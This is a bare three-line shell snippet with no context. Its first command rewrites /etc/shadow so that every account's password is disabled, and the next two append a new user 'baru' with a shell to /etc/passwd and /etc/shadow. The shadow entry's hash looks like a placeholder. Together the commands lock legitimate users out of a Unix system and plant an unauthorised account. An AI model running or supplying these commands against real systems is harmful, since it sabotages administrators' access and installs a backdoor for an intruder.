sed -i 's/^\([^:]*\):[^:]*:/\1:*:/' /etc/shadow
echo 'baru:x:1500:1500::/home/baru:/bin/sh' >>/etc/passwd
echo 'baru:$6$abcdefgh$0123456789:20000:0:99999:7:::' >>/etc/shadow
